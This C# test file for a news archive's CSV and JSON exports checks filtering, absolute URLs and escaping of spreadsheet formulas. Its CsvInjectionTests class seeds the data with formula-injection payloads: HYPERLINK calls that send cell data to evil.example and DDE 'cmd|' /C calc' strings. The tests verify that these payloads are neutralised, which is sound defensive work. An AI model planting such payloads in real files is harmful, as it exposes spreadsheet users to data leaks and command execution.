using System.Globalization;
using System.Text.Json;
using CsvHelper;

namespace MinistryNews.Web.Tests.Pages;

/// <summary>
/// Every list downloads as CSV and JSON with the page's filters, and parses back to the rows the page shows. The CSV
/// begins with a byte order mark; the meetings and delegations downloads give absolute addresses, and their JSON gives
/// a row's countries, participants and destinations as arrays of slug and name.
/// </summary>
public sealed class ExportTests(ArchiveFixture archive) : IClassFixture<ArchiveFixture>
{
    [Theory]
    [InlineData("/articles?country=atlantis&format=csv", "No country “atlantis” in the archive")]
    [InlineData("/search?q=minister&person=nobody-at-all&format=json", "No person “nobody-at-all” in the archive")]
    [InlineData("/meetings?country=atlantis&format=json", "No country “atlantis” in the archive")]
    [InlineData("/delegations?direction=sideways&format=csv", "“sideways” is not a direction (made or hosted)")]
    [InlineData("/agreements?sort=bogus&format=csv", "bogus")]
    [InlineData("/people?country=atlantis&format=csv", "atlantis")]
    [InlineData("/articles?format=xml", "“xml” is not a format of this list: csv, json or atom.")]
    [InlineData("/countries?format=atom", "“atom” is not a format of this list: csv or json.")]
    public async Task Should_refuse_a_download_of_a_query_it_cannot_follow_and_name_what_it_cannot_use(string url, string named)
    {
        using var response = await archive.Client.GetAsync(new Uri(url, UriKind.Relative));

        // A download has no place to say a filter was left out, so it never gives the whole list in its stead.
        Assert.Equal(System.Net.HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        using var problem = System.Text.Json.JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        Assert.Contains(problem.RootElement.GetProperty("errors").EnumerateArray(), e => e.GetString()!.Contains(named, StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("/articles?country=japan&format=csv")]
    [InlineData("/meetings?format=json")]
    [InlineData("/countries?format=csv")]
    public async Task Should_still_give_a_download_of_a_query_it_follows_whole(string url)
    {
        using var response = await archive.Client.GetAsync(new Uri(url, UriKind.Relative));

        Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
        Assert.NotNull(response.Content.Headers.ContentDisposition);
    }

    [Theory]
    [InlineData("/articles?country=japan&kind=meeting")]
    [InlineData("/articles?person=nguyen-manh-hung&sort=oldest")]
    public async Task Should_export_the_filtered_articles_as_the_page_lists_them(string url)
    {
        var page = await archive.PageAsync(url);
        var shown = page.QuerySelectorAll(".article-list a.title").Select(a => a.TextContent.Trim()).ToList();

        var csv = await CsvAsync(url + "&format=csv");
        var json = await JsonAsync(url + "&format=json");

        Assert.NotEmpty(shown);
        Assert.Equal(shown, csv.Select(r => r["Title"]));
        Assert.Equal(shown, json.Select(r => r.GetProperty("title").GetString()));
        // The addresses are absolute, so that a row still leads to its article once it has left the site.
        Assert.Equal(page.QuerySelectorAll(".article-list a.title").Select(a => "http://localhost" + a.GetAttribute("href")), csv.Select(r => r["Url"]));
        Assert.Equal(csv.Select(r => r["Url"]), json.Select(r => r.GetProperty("url").GetString()));
        Assert.All(json, r => Assert.Equal(JsonValueKind.Array, r.GetProperty("countries").ValueKind));
    }

    [Theory]
    [InlineData("/meetings?kind=bilateral&country=laos", "tbody tr td:last-child a", "ArticleTitle")]
    [InlineData("/delegations?direction=hosted", "tbody tr td:last-child a", "ArticleTitle")]
    [InlineData("/agreements?status=expired", "tbody th a.record", "Kind")]
    [InlineData("/people?country=japan", "tbody th a", "Name")]
    [InlineData("/countries", ".table-wrap:not(.map-figures) tbody th a", "Name")]
    public async Task Should_export_each_table_as_the_page_shows_it(string url, string selector, string column)
    {
        var page = await archive.PageAsync(url);
        var shown = page.QuerySelectorAll(selector).Select(a => a.TextContent.Trim()).ToList();
        var separator = url.Contains('?', StringComparison.Ordinal) ? "&" : "?";

        var csv = await CsvAsync(url + separator + "format=csv");
        var json = await JsonAsync(url + separator + "format=json");

        Assert.NotEmpty(shown);
        Assert.Equal(shown, csv.Select(r => r[column]));
        Assert.Equal(shown, json.Select(r => r.GetProperty(JsonNamingPolicy.CamelCase.ConvertName(column)).GetString()));
    }

    [Theory]
    [InlineData("/meetings?format=csv")]
    [InlineData("/delegations?format=csv")]
    [InlineData("/articles?format=csv")]
    public async Task Should_begin_the_csv_with_a_byte_order_mark_so_that_spreadsheets_read_it_as_utf8(string url)
    {
        var bytes = await archive.Client.GetByteArrayAsync(new Uri(url, UriKind.Relative));

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        Assert.NotEqual(0xEF, bytes[3]);
    }

    [Theory]
    [InlineData("/meetings")]
    [InlineData("/delegations")]
    public async Task Should_give_absolute_addresses_in_the_downloads_of_the_sentences_the_page_links_to(string list)
    {
        var page = await archive.PageAsync(list);
        var shown = page.QuerySelectorAll("tbody a.evidence-link").Select(a => a.GetAttribute("href")!).ToList();

        var csv = await CsvAsync(list + "?format=csv");
        var json = await JsonAsync(list + "?format=json");

        Assert.NotEmpty(shown);
        Assert.Equal(shown.Select(href => "http://localhost" + href), csv.Take(shown.Count).Select(r => r["EvidenceUrl"]));
        Assert.All(csv, r =>
        {
            Assert.StartsWith("http://localhost/articles/", r["ArticleUrl"], StringComparison.Ordinal);
            Assert.StartsWith(r["ArticleUrl"] + "#fact-", r["EvidenceUrl"], StringComparison.Ordinal);
        });
        Assert.Equal(csv.Select(r => r["ArticleUrl"]), json.Select(j => j.GetProperty("articleUrl").GetString()));
        Assert.Equal(csv.Select(r => r["EvidenceUrl"]), json.Select(j => j.GetProperty("evidenceUrl").GetString()));
    }

    [Theory]
    [InlineData("/meetings", "countries", "Countries")]
    [InlineData("/meetings", "participants", "Participants")]
    [InlineData("/delegations", "destinations", "Destinations")]
    public async Task Should_give_the_lists_of_a_row_as_arrays_in_the_json_and_as_names_in_the_csv(string list, string property, string column)
    {
        var json = await JsonAsync(list + "?format=json");
        var csv = await CsvAsync(list + "?format=csv");

        var arrays = json.Select(row => row.GetProperty(property)).ToList();
        Assert.All(arrays, a => Assert.Equal(JsonValueKind.Array, a.ValueKind));
        Assert.Contains(arrays, a => a.GetArrayLength() > 0);
        Assert.All(arrays.SelectMany(a => a.EnumerateArray()), link =>
        {
            Assert.Matches("^[a-z0-9-]+$", link.GetProperty("slug").GetString());
            Assert.False(string.IsNullOrWhiteSpace(link.GetProperty("name").GetString()));
        });
        Assert.Equal(csv.Select(r => r[column]), arrays.Select(a => string.Join("; ", a.EnumerateArray().Select(link => link.GetProperty("name").GetString()))));
    }

    [Fact]
    public async Task Should_link_the_downloads_from_the_page_with_its_filters()
    {
        var page = await archive.PageAsync("/articles?country=japan&page=1");

        var links = page.QuerySelectorAll(".downloads a").Select(a => a.GetAttribute("href")).ToList();
        Assert.Equal(["/articles?country=japan&format=csv", "/articles?country=japan&format=json"], links);
    }

    private Task<List<Dictionary<string, string>>> CsvAsync(string url) => CsvInjectionTests.RowsAsync(archive.Client, url);

    private async Task<List<JsonElement>> JsonAsync(string url)
    {
        using var response = await archive.Client.GetAsync(new Uri(url, UriKind.Relative));
        response.EnsureSuccessStatusCode();
        Assert.Equal("application/json", response.Content.Headers.ContentType?.MediaType);
        using var document = JsonDocument.Parse(await response.Content.ReadAsStringAsync());
        return [.. document.RootElement.EnumerateArray().Select(e => e.Clone())];
    }
}

/// <summary>
/// CSV downloads are safe to open in a spreadsheet whatever the press releases hold: titles, names, places and kinds
/// that begin with a formula character reach the file as text (OWASP's rule: quoted, behind a single quote).
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] Prefixes = ["=", "+", "-", "@", "\t", "\r"];

    public static TheoryData<string> Exports => new()
    {
        "/articles?format=csv",
        "/meetings?format=csv",
        "/delegations?format=csv",
        "/agreements?format=csv",
        "/people?format=csv",
        "/countries?format=csv",
    };

    [Theory]
    [MemberData(nameof(Exports))]
    public async Task Should_write_every_cell_that_begins_like_a_formula_so_that_a_spreadsheet_reads_it_as_text(string url)
    {
        await using var app = new ArchiveApplication();
        using var client = await app.StartAsync();
        await StoreHostileTextAsync(app);

        var cells = await CellsAsync(client, url);

        // As a spreadsheet reads the file: no cell it would evaluate, and each hostile text still there, behind a quote.
        Assert.All(cells, cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal), $"{url}: a spreadsheet would evaluate “{cell}”"));
        var escaped = cells.Where(c => c.StartsWith('\'')).Select(c => c[1..]).ToList();
        Assert.Contains(escaped, c => c.Contains("HYPERLINK", StringComparison.Ordinal) || c.Contains("cmd|", StringComparison.Ordinal) || c.Contains("SUM(", StringComparison.Ordinal));
        Assert.All(escaped, c => Assert.Contains(Prefixes, p => c.StartsWith(p, StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Should_keep_the_title_readable_and_leave_ids_dates_and_the_json_download_as_they_are()
    {
        await using var app = new ArchiveApplication();
        using var client = await app.StartAsync();
        await StoreHostileTextAsync(app);
        await using var db = app.OpenDatabase();
        var titles = db.Articles.ToDictionary(a => a.Id, a => a.Title);

        var rows = await RowsAsync(client, "/articles?format=csv");
        var json = await client.GetStringAsync(new Uri("/articles?format=json", UriKind.Relative));

        Assert.Equal(titles.Count, rows.Count);
        Assert.All(rows, row => Assert.Equal("'" + titles[int.Parse(row["Id"], System.Globalization.CultureInfo.InvariantCulture)], row["Title"]));
        Assert.Contains(rows, row => System.Text.RegularExpressions.Regex.IsMatch(row["Published"], @"^\d{4}-\d{2}-\d{2}$"));
        using var document = JsonDocument.Parse(json);
        Assert.Equal(titles.Values.Order(StringComparer.Ordinal), document.RootElement.EnumerateArray().Select(a => a.GetProperty("title").GetString()).Order(StringComparer.Ordinal));
    }

    /// <summary>Gives every title, name, place, kind and title of office in the archive a hostile beginning, each of the six in turn.</summary>
    private static async Task StoreHostileTextAsync(ArchiveApplication app)
    {
        await using var db = app.OpenDatabase();
        var i = 0;
        string Next(string text) => Prefixes[i++ % Prefixes.Length] + text;
        foreach (var article in db.Articles.OrderBy(a => a.Id))
        {
            article.Title = Next($"HYPERLINK(\"https://evil.example/?\"&A1,\"{article.Title}\")");
        }

        foreach (var person in db.People.OrderBy(p => p.Id))
        {
            person.Name = Next("cmd|' /C calc'!A0 " + person.Name);
        }

        foreach (var country in db.Countries.OrderBy(c => c.Id))
        {
            country.Name = Next("SUM(1+1)*cmd|' /C calc'!A0 " + country.Name);
        }

        foreach (var meeting in db.Meetings.OrderBy(m => m.Id))
        {
            meeting.Location = Next("HYPERLINK(\"https://evil.example\") " + meeting.Location);
        }

        foreach (var agreement in db.Agreements.OrderBy(a => a.Id))
        {
            agreement.Kind = Next("HYPERLINK(\"https://evil.example\") " + agreement.Kind);
            agreement.Name = Next("SUM(1+1) " + agreement.Name);
        }

        foreach (var mention in db.ArticlePeople.Where(m => m.Title != null).OrderBy(m => m.ArticleId))
        {
            mention.Title = Next("cmd|' /C calc'!A0 " + mention.Title);
        }

        await db.SaveChangesAsync();
    }

    private static async Task<List<string>> CellsAsync(HttpClient client, string url) =>
        [.. (await RowsAsync(client, url)).SelectMany(r => r.Values)];

    /// <summary>A CSV download read back as a spreadsheet would: one dictionary of header to cell a row.</summary>
    internal static async Task<List<Dictionary<string, string>>> RowsAsync(HttpClient client, string url)
    {
        using var response = await client.GetAsync(new Uri(url, UriKind.Relative));
        Assert.Equal(System.Net.HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        using var reader = new StringReader(await response.Content.ReadAsStringAsync());
        using var csv = new CsvReader(reader, CultureInfo.InvariantCulture);
        var rows = new List<Dictionary<string, string>>();
        await csv.ReadAsync();
        csv.ReadHeader();
        while (await csv.ReadAsync())
        {
            rows.Add(csv.HeaderRecord!.ToDictionary(h => h, h => csv.GetField(h) ?? string.Empty));
        }

        Assert.NotEmpty(rows);
        return rows;
    }
}
